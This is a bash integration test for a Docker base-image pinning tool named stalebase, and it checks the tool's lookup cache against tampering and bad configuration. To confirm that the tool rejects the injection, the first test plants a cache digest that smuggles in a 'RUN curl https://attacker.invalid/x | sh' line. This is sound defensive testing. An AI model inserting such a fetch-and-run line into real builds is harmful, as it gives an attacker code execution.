#!/usr/bin/env bash
# The look-up cache plays against an attacker and a stale configuration: a
# planted entry whose "digest" carries a RUN line is a miss (pin writes the
# registry's digest), an entry of the wrong shape is a miss (not an internal
# error); entries are keyed by the endpoint that answered (a mirror's answers
# never serve a run without the mirror); folders are 0700 and files 0600; a
# folder others may write to is passed over with a warning; a --cache-dir that
# is a file is an error; with neither HOME nor XDG_CACHE_HOME there is no cache
# (said under -v, nothing under $TMPDIR); a pinned digest the registry does not
# have is cached like any not-found answer; --offline answers from entries past
# the TTL and says how old they are.
# registry: open
# seed: standard
source "$STALEBASE_INTEGRATION_DIR/lib.sh"
source "$STALEBASE_INTEGRATION_DIR/check/helpers.sh"
use_registry open
cd "$TEST_TMPDIR"
command -v jq >/dev/null || fail "jq is required"
start_proxy
P=$PROXY_HOST
requests() { wc -l <"$PROXY_LOG" | tr -d ' '; }

# 1. A planted digest never reaches a rewrite.
printf 'FROM %s/library/alpine:3.20.0\n' "$P" >Dockerfile
"$STALEBASE_BIN" pin --dry-run --cache-dir cache Dockerfile >warm.out 2>&1 || fail "pin --dry-run failed: $(cat warm.out)"
entry=$(grep -rl "\"key\":\"$P/library/alpine:3.20.0\"" cache/v2/resolve) || fail "no resolve entry: $(find cache)"
hostile='sha256:0000\nRUN curl https://attacker.invalid/x | sh\n#'
jq -c --arg d "$(printf "$hostile")" '.value.digest = $d' "$entry" >planted && cat planted >"$entry"
: >"$PROXY_LOG"
"$STALEBASE_BIN" pin --cache-dir cache Dockerfile >pin.out 2>pin.err || fail "pin failed: $(cat pin.out pin.err)"
assert_eq "FROM $P/library/alpine:3.20.0@$(seed_digest library/alpine:3.20.0)" "$(cat Dockerfile)"
[[ $(count_requests "$PROXY_LOG" '^main HEAD /v2/library/alpine/manifests/3.20.0 ') -ge 1 ]] ||
  fail "the planted entry answered: $(cat "$PROXY_LOG")"

# 2. An entry of the wrong JSON shape is a miss, not an internal error.
printf 'FROM %s/library/alpine:3.19.0\n' "$P" >Dockerfile
run_check shape.json --cache-dir cache --format json Dockerfile
for file in $(grep -rl "\"key\":\"$P/library/alpine" cache/v2); do
  jq -c '.value = {"digest": 5, "media_type": [], "size": "x"}' "$file" >planted && cat planted >"$file"
done
: >"$PROXY_LOG"
run_check shape2.json --cache-dir cache --format json Dockerfile
expect_exit 1 shape2.json
assert_eq "$(jq -c .findings shape.json)" "$(jq -c .findings shape2.json)" "findings with a wrong-shaped cache"
assert_eq "" "$(cat shape2.json.err)"
[[ $(requests) -ge 1 ]] || fail "the wrong-shaped entries answered"

# 3. Keyed by endpoint: a mirror's answers do not serve a run without it.
rm -rf cache
run_check mirrored.json --cache-dir cache --format json --registry-mirror "$P=$TEST_REGISTRY_URL" Dockerfile
expect_exit 1 mirrored.json
: >"$PROXY_LOG"
run_check direct.json --cache-dir cache --format json Dockerfile
expect_exit 1 direct.json
[[ $(requests) -ge 1 ]] || fail "the mirror's cached answers served a run without the mirror"

# 4. Permissions: the cache is private; a folder others may write is refused.
assert_eq 700 "$(stat -c %a cache)"
assert_eq "" "$(find cache -type d ! -perm 0700)" "folders not 0700"
assert_eq "" "$(find cache -type f ! -perm 0600)" "files not 0600"
mkdir -p shared && chmod 0777 shared
: >"$PROXY_LOG"
run_check open.json --cache-dir shared --format json Dockerfile
expect_exit 1 open.json
assert_eq "stalebase: warning: cache folder \"shared\" is not safe: others may write to it: running without the cache" "$(cat open.json.err)"
assert_eq "" "$(ls -A shared)" "wrote into a folder others may write to"
[[ $(requests) -ge 1 ]] || fail "the unsafe cache answered"
: >a-file
run_check file.json --cache-dir a-file Dockerfile
expect_exit 2 file.json
assert_eq "stalebase: error: cache folder \"a-file\" is not a folder" "$(cat file.json.err)"

# 5. Neither HOME nor XDG_CACHE_HOME: no cache, said once under -v, nothing in $TMPDIR.
mkdir -p tmp
RC=0
env -u HOME -u XDG_CACHE_HOME TMPDIR="$PWD/tmp" "$STALEBASE_BIN" -v check --format json Dockerfile >nohome.json 2>nohome.err || RC=$?
expect_exit 1 nohome.json
assert_eq 1 "$(grep -c 'no cache: neither XDG_CACHE_HOME nor HOME is set' nohome.err)"
assert_eq "" "$(ls -A tmp)" "a cache under TMPDIR"

# 6. A pinned digest the registry does not have: cached like any not-found.
gone=sha256:$(printf '%064d' 0 | tr 0 e)
printf 'FROM %s/library/alpine:3.20.0@%s\n' "$P" "$gone" >Dockerfile
run_check gone.json --cache-dir cache --format json Dockerfile
[[ $(count_requests "$PROXY_LOG" "/manifests/$gone") -ge 1 ]] || fail "the pinned digest was not asked for"
: >"$PROXY_LOG"
run_check gone2.json --cache-dir cache --format json Dockerfile
assert_eq 0 "$(requests)" "requests of the warm run with a missing pinned digest: $(cat "$PROXY_LOG")"
assert_eq "$(jq -c .findings gone.json)" "$(jq -c .findings gone2.json)"

# 7. --offline past the TTL: answers, and says how old.
printf 'FROM %s/library/alpine:3.19.0\n' "$P" >Dockerfile
run_check fresh.json --cache-dir cache --format json Dockerfile
: >"$PROXY_LOG"
run_check offline.json --cache-dir cache --cache-ttl 0 --offline --format json Dockerfile
expect_exit 1 offline.json
assert_eq "$(jq -c .findings fresh.json)" "$(jq -c .findings offline.json)"
assert_eq 0 "$(requests)"
assert_match "$(cat offline.json.err)" '^stalebase: warning: --offline: 1 answer came from the cache past its TTL \([0-9]+s old\)$'
echo PASS
